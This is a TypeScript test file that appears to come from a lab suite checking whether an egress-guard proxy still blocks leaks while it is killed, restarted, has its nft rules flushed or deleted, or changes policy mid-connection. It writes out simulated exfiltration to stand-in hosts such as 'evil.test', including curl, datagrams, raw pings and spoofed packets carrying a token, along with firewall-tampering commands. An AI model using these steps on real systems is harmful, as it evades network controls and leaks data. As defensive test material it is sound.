/** What a pod may use that the guard is being started, stopped, killed, changed or told something new. Each in a world of its own. */
import {once} from 'node:events';
import {join} from 'node:path';
import type {Attempt, Attacker} from '../attempt.ts';
import {EVIL, NODE_IP4, SITES} from '../addresses.ts';
import {POLICY, without} from '../policy.ts';
import {clientHello} from '../hello.ts';
import {http, say, tlsTo} from '../wire.ts';
import {python, type World, type WorldName} from '../world.ts';

/** Of the range that is outside, and that the rule for literals holds. */
const FLOATING = '192.168.77.1';
/** A pod that is not there yet; the lab calls its interface so. */
const COMING = {ips: ['10.77.0.99', 'fd77::99'], interface: 'p-coming'} as const;
const FLOATING_PAUSE_MS = 2;
const LAYOUTS: readonly WorldName[] = ['routed', 'bridged'];

const way = (
  id: string,
  title: string,
  attempt: (by: Attacker, world: World) => Promise<unknown>,
  more: Partial<Attempt> = {},
): Attempt => ({
  id: `life-${id}`,
  title,
  invariant: 3,
  attempt: async (by, world) => void (await attempt(by, world)),
  control: 'free',
  alone: true,
  ...more,
});

/** Everything at once: names, addresses, ports, datagrams, the node, the neighbour. */
async function everything(by: Attacker, world: World): Promise<void> {
  const peer = world.lab.pod('peer');
  await Promise.all([
    by.curl(`http://evil.test/${by.token}`),
    by.curl(`https://allowed.test/private/${by.token}`),
    by.curl(`http://[${EVIL[6]}]/${by.token}`),
    by.curl(`http://${NODE_IP4}:8080/${by.token}`),
    by.curl(`http://${peer.ip4}:8080/${by.token}`),
    by.datagram(EVIL[4], 9999, by.token),
    by.datagram(EVIL[6], 9999, by.token),
    by.datagram(peer.ip4, 9999, by.token),
    by.datagram(NODE_IP4, 8080, by.token),
    by.program('raw', 'ping', EVIL[4], by.token),
    by.program('raw', 'spoof', '198.51.100.7', EVIL[4], '9999', by.token),
    say(by.connect(EVIL[4], 443), clientHello({names: ['evil.test'], padding: by.token})),
  ]);
}

/** Datagrams to everywhere, a thousand times a second, while something is done. */
async function streaming(
  by: {readonly name: string; readonly token: string},
  world: World,
  meanwhile: () => Promise<unknown>,
): Promise<void> {
  const peer = world.lab.pod('peer');
  const program = join(import.meta.dirname, '..', 'programs', 'stream.py');
  const to = [EVIL[4], EVIL[6], peer.ip4, peer.ip6, NODE_IP4];
  const child = world.lab.spawn(by.name, [python(), '-IS', program, by.token, ...to], {
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  await once(child.stdout!, 'data');
  await meanwhile();
  const ended = once(child, 'exit');
  child.stdin!.end();
  await ended;
}

/** Long enough for hundreds of datagrams. */
const aWhile = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 300));

const node = (world: World, ...argv: readonly string[]): Promise<unknown> => world.lab.exec('node', argv);

/** What is done to the rules, and afterwards said by the proxy. */
const changed =
  (...argv: readonly string[]) =>
  async (by: Attacker, world: World): Promise<void> =>
    streaming(by, world, async () => {
      const said = by.name === 'locked' ? world.says('capture.drift') : Promise.resolve();
      await node(world, ...argv);
      await said;
    });

/** A connection that is open when something is done, and what is then sent on it. */
const opened =
  (
    open: (by: Attacker, world: World) => Promise<{write(text: string): void; done(): Promise<unknown>}>,
    meanwhile: (world: World) => Promise<unknown>,
    text: (token: string) => string,
  ) =>
  async (by: Attacker, world: World): Promise<void> => {
    const connection = await open(by, world);
    if (by.name === 'locked') await meanwhile(world);
    connection.write(text(by.token));
    await connection.done();
  };

const socketTo =
  (ip: string, port: number, ...first: readonly (string | Buffer)[]) =>
  async (by: Attacker): Promise<{write(text: string): void; done(): Promise<unknown>}> => {
    const socket = by.connect(ip, port);
    await once(socket, 'connect');
    for (const part of first) {
      socket.write(part);
      await once(socket, 'data');
    }
    return {write: (text) => socket.write(text), done: () => say(socket)};
  };

const policy =
  (...documents: readonly object[]) =>
  async (world: World): Promise<void> => {
    const said = world.says('policy.loaded');
    world.setPolicy(...documents);
    await said;
  };

const WEBSOCKET = http(
  'GET /a HTTP/1.1',
  'Host: socket.test',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
);

export const LIFE: readonly Attempt[] = [
  way(
    'killed',
    'the supervisor is killed with -9',
    async (by, world) => {
      if (by.name === 'locked') await world.killProxy();
      await everything(by, world);
    },
    {worlds: ['routed', 'redirect', 'bridged']},
  ),
  way('stopped', 'the supervisor is stopped as an upgrade does it', async (by, world) => {
    if (by.name === 'locked') {
      const ended = once(world.proxy(), 'exit');
      world.proxy().kill('SIGTERM');
      await ended;
    }
    await everything(by, world);
  }),
  way(
    'starting',
    'the supervisor is killed and started again',
    (by, world) =>
      streaming(by, world, async () => {
        if (by.name !== 'locked') return aWhile();
        await world.killProxy();
        await world.startProxy();
      }),
    {worlds: LAYOUTS},
  ),
  way('flushed', 'somebody else flushes all rules', changed('nft', 'flush', 'ruleset'), {worlds: LAYOUTS}),
  way('deleted', 'somebody else deletes our table', changed('nft', 'delete', 'table', 'inet', 'sallyport')),
  way(
    'chain',
    'somebody else empties a chain of ours',
    changed('nft', 'flush', 'chain', 'inet', 'sallyport', 'prerouting'),
  ),
  way(
    'insert',
    'somebody else lets everything pass before our rules',
    changed('nft', 'insert', 'rule', 'inet', 'sallyport', 'prerouting', 'accept'),
  ),
  way(
    'unset',
    'somebody else takes the pod out of our sets',
    changed('nft', 'flush', 'set', 'inet', 'sallyport', 'captured4'),
  ),
  way(
    'plugged',
    'a pod whose addresses and interface are in the table sends from the moment it is plugged in',
    async (by, world) => {
      world.setMembers(['locked'], COMING);
      // In the kernel: until then it is nobody's.
      while (
        !(await world.lab.exec('node', ['nft', 'list', 'set', 'inet', 'sallyport', 'addresses6'])).stdout.includes(
          COMING.ips[1],
        )
      );
      await world.lab.addPod({name: 'coming', ips: COMING.ips});
      await streaming({name: 'coming', token: by.token}, world, aWhile);
      await everything(world.attacker('coming', by.token), world);
    },
    {
      worlds: LAYOUTS,
      control: {
        by: 'free',
        instead: async (by, world) => {
          const name = by.token.slice(-8);
          await world.lab.addPod({name});
          await streaming({name, token: by.token}, world, aWhile);
        },
      },
    },
  ),
  way(
    'moved',
    'another pod takes the address of the locked one',
    async (by, world) => {
      const stolen = world.lab.pod('locked').ip4;
      await world.lab.exec('peer', ['ip', 'address', 'add', `${stolen}/32`, 'dev', 'lo']);
      await Promise.all([
        say(world.attacker('peer', by.token).connect(EVIL[4], 7000, {ip: stolen}), by.token),
        world.attacker('peer', by.token).program('raw', 'spoof', stolen, EVIL[4], '9999', by.token),
      ]);
    },
    {
      worlds: LAYOUTS,
      control: {by: 'free', instead: async (by) => void (await say(by.connect(EVIL[4], 7000), by.token))},
    },
  ),
  way(
    'earlier',
    'a connection that was open before the pod was captured',
    opened(
      socketTo(EVIL[4], 7000),
      async () => undefined,
      (token) => token,
    ),
    {
      attempt: async (by, world) => {
        const other = world.attacker('peer', by.token);
        const connection = await socketTo(EVIL[4], 7000)(other);
        const said = world.says('capture.cut');
        world.setMembers(['locked', 'peer']);
        await said;
        connection.write(by.token);
        await connection.done();
      },
      control: {
        by: 'free',
        instead: async (by) => {
          const connection = await socketTo(EVIL[4], 7000)(by);
          connection.write(by.token);
          await connection.done();
        },
      },
    },
  ),
  way(
    'websocket',
    'a WebSocket that a policy change takes away',
    opened(socketTo(SITES.socket, 80, WEBSOCKET), policy(without('socket')), (token) => `\x81\x8f\0\0\0\0${token}`),
  ),
  way(
    'opaque',
    'a tcp connection that a policy change takes away',
    opened(socketTo(SITES.opaque, 9000), policy(without('opaque')), (token) => token),
  ),
  way(
    'kept',
    'a kept HTTP connection whose path a policy change takes away',
    opened(
      socketTo(SITES.plain, 80, http('GET /public/a HTTP/1.1', 'Host: plain.test')),
      policy(without('plain')),
      (token) => http(`GET /public/${token} HTTP/1.1`, 'Host: plain.test'),
    ),
  ),
  way('kept-tls', 'the same inside TLS', async (by, world) => {
    const tls = await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']});
    tls.write(http('GET /public/a HTTP/1.1', 'Host: allowed.test'));
    await once(tls, 'data');
    if (by.name === 'locked') await policy(without('allowed'))(world);
    await say(tls, http(`GET /public/${by.token} HTTP/1.1`, 'Host: allowed.test'));
  }),
  way('upload', 'a body that is being sent when a policy change takes its site away', async (by, world) => {
    const socket = by.connect(SITES.plain, 80);
    socket.write(http('POST /public/a HTTP/1.1', 'Host: plain.test', 'Transfer-Encoding: chunked') + '1\r\nx\r\n');
    // On its way to the site: the allowed request behind it is not waited for.
    await once(socket, 'connect');
    if (by.name === 'locked') await policy(without('plain'))(world);
    await say(socket, `f\r\n${by.token}\r\n0\r\n\r\n`);
  }),
  way(
    'floating',
    'an address of the internet becomes the node’s while the pod asks for it',
    async (by, world) => {
      const asking: Promise<string>[] = [];
      const ask = (): number =>
        asking.push(say(by.connect(FLOATING, 8088), http(`GET /${by.token} HTTP/1.1`, `Host: ${FLOATING}:8088`)));
      const clock = setInterval(ask, FLOATING_PAUSE_MS);
      await node(world, 'ip', 'address', 'add', `${FLOATING}/32`, 'dev', 'lo');
      if (by.name === 'locked') await world.says('node.addresses');
      ask();
      clearInterval(clock);
      await Promise.all(asking);
    },
    {invariant: 4, out: (place) => place.startsWith('the node')},
  ),
  way('emptied', 'all policies are taken away', async (by, world) => {
    if (by.name === 'locked') await policy({...POLICY, spec: {...POLICY.spec, rules: []}})(world);
    await by.curl(`https://allowed.test/public/${by.token}`);
  }),
  way('broken', 'the policy file becomes garbage', async (by, world) => {
    if (by.name === 'locked') {
      const said = world.says('policy.f');
      world.setPolicy({kind: 'EgressPolicy', spec: {podSelector: 7}});
      await said;
    }
    await everything(by, world);
  }),
];
